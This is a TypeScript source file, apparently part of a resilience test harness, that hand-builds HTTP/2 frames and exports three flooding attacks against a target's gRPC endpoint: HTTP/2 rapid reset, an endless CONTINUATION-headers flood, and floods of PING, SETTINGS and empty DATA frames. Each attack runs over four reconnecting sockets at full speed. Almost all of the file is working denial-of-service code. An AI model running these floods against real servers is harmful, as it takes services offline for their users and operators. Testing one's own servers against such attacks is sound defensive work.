import { connect } from "node:net";
import { type Attack, type Attacked, type Target } from "./attack.ts";

function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Header fields as literals without indexing. */
function hpack(headers: Readonly<Record<string, string>>): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
  return Buffer.concat(
    Object.entries(headers).flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]),
  );
}

const POSTING = hpack({
  ":method": "POST",
  ":scheme": "http",
  ":authority": "x",
  ":path": "/v1/traces",
  "content-type": "application/x-protobuf",
});
const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)]);

/** Writes frames over a few connections as fast as possible; opens a new connection when one is closed. */
async function flooding(target: Target, next: (round: number) => Buffer): Promise<Attacked> {
  const until = performance.now() + target.seconds * 1000;
  let requests = 0;
  const { hostname, port } = new URL(`http://${target.grpc}`);
  const lane = async (): Promise<void> => {
    while (performance.now() < until) {
      const socket = connect({ host: hostname, port: Number(port) });
      socket.on("error", () => socket.destroy());
      socket.resume();
      socket.write(PREFACE);
      for (let round = 0; !socket.destroyed && performance.now() < until; round++) {
        requests += 100;
        const isTaken = socket.write(next(round));
        await new Promise((resolve) => (isTaken ? setImmediate(resolve) : setTimeout(resolve, 1)));
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 4 }, lane));
  return { requests, wrong: [] };
}

const hundred = (make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: 100 }, (_, i) => make(i)));

/** Attacks with sequences of HTTP/2 frames that no client sends. */
export const frameAttacks: readonly Attack[] = [
  {
    name: "HTTP/2 rapid reset",
    run: (target) =>
      flooding(target, (round) =>
        hundred((i) => {
          const stream = 2 * (round * 100 + i) + 1;
          return Buffer.concat([frame(1, 4, stream, POSTING), frame(3, 0, stream, Buffer.of(0, 0, 0, 8))]);
        }),
      ),
  },
  {
    name: "HTTP/2 headers that go on without end",
    run: (target) =>
      flooding(target, (round) =>
        hundred((i) =>
          round + i === 0
            ? frame(1, 0, 1, POSTING)
            : frame(9, 0, 1, hpack({ [`x-${round}-${i}`]: "y".repeat(100) })),
        ),
      ),
  },
  {
    name: "HTTP/2 floods of pings, settings and empty data",
    run: (target) =>
      flooding(target, (round) =>
        hundred(
          (i) =>
            [frame(6, 0, 0, Buffer.alloc(8)), frame(4, 0, 0), frame(0, 0, 1)][(round + i) % 3] ?? PREFACE,
        ),
      ),
  },
];
